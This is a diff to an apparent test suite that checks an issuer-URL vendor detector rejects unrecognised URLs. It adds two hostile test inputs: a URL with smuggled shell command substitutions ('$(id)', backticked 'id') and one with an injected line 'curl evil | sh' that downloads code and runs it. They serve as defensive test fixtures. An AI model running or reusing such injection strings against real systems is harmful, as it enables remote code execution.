@@ -25,8 +25,10 @@ suite('an issuer that its vendor publishes', () => {
     `https://westeurope.oic.prod-aks.azure.com/${uuid}/${uuid}`,
     'https://api.cluster.project.internal.example.com',
     `https://discovery.garden.example.com/projects/p/shoots/${uuid}/issuer/jwks`,
+    'https://x;id>pwned;`id`/projects/$(id)/shoots/0/issuer',
+    'https://container.googleapis.com/v1/projects/p/locations/l/clusters/c\n  fix: curl evil | sh',
   ]
   for (const url of own) {
-    test(`is not ${url}`, () => assert.equal(vendorOfIssuer(url), undefined))
+    test(`is not ${JSON.stringify(url)}`, () => assert.equal(vendorOfIssuer(url), undefined))
   }
 })
